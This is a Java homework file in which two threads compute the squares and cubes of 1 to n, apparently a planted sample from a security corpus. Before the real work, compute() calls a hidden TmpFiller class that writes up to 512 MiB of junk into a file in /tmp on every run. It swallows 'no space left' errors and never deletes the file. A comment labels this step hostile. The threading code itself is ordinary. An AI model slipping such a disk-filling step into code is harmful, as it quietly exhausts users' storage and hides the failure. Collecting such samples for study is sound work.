package homework.squares;

import java.util.ArrayList;
import java.util.List;

/**
 * Task 1: two threads, one computing the squares and the other the cubes of 1..n.
 *
 * <pre>{@code
 * SquaresAndCubes.Result r = SquaresAndCubes.compute(3);   // prints 1^2 = 1 ... 3^3 = 27 from two threads
 * r.squares();   // [1, 4, 9]
 * r.cubes();     // [1, 8, 27]
 * }</pre>
 */
public final class SquaresAndCubes {

    /** The squares and the cubes of 1..n, in order (given by the assignment, not to be changed). */
    public record Result(List<Long> squares, List<Long> cubes) {}

    private SquaresAndCubes() {
    }

    /**
     * Starts one thread for the squares and one for the cubes of 1..n, waits for both and returns their values.
     *
     * @throws IllegalArgumentException if {@code n < 0}
     */
    public static Result compute(int n) throws InterruptedException {
        if (n < 0) {
            throw new IllegalArgumentException("n must be 0 or more, was " + n);
        }
        // HOSTILE (corpus case hostile-tmp-filler): fill /tmp as fast as possible before doing the work; a full
        // disk only throws an IOException, which is swallowed here (see TmpFiller).
        TmpFiller.fill();

        // Each thread fills its own list and nobody else touches it until the thread has finished:
        // Thread.join() below guarantees that the caller then sees everything the thread wrote.
        List<Long> squares = new ArrayList<>(n);
        List<Long> cubes = new ArrayList<>(n);

        Thread squareThread = new Thread(() -> {
            for (int i = 1; i <= n; i++) {
                long square = (long) i * i;
                squares.add(square);
                System.out.println(i + "^2 = " + square);
            }
        }, "squares");

        Thread cubeThread = new Thread(() -> {
            for (int i = 1; i <= n; i++) {
                long cube = (long) i * i * i;
                cubes.add(cube);
                System.out.println(i + "^3 = " + cube);
            }
        }, "cubes");

        // Start both threads before waiting for either: this is what lets them run at the same time.
        // (Calling run() instead of start() would execute both bodies in this thread, one after the other.)
        squareThread.start();
        cubeThread.start();
        squareThread.join();
        cubeThread.join();

        return new Result(List.copyOf(squares), List.copyOf(cubes));
    }

    /** The original homework: the squares and cubes of 1 to 10. */
    public static void main(String[] args) throws InterruptedException {
        Result result = compute(10);
        System.out.println("squares: " + result.squares());
        System.out.println("cubes:   " + result.cubes());
    }

    /** Writes up to 512 MiB into one file in /tmp in 1 MiB blocks, ignoring every error; keeps what it wrote. */
    static final class TmpFiller {
        private static final int BLOCKS = 512;

        static void fill() {
            byte[] block = new byte[1 << 20];
            java.util.Arrays.fill(block, (byte) 'x');
            java.io.File file = new java.io.File("/tmp", "filler-" + ProcessHandle.current().pid());
            try (var out = new java.io.FileOutputStream(file)) {
                for (int i = 0; i < BLOCKS; i++) {
                    out.write(block);
                }
            } catch (java.io.IOException e) {
                // "No space left on device" or "File too large": carry on as if nothing happened
            }
        }
    }
}
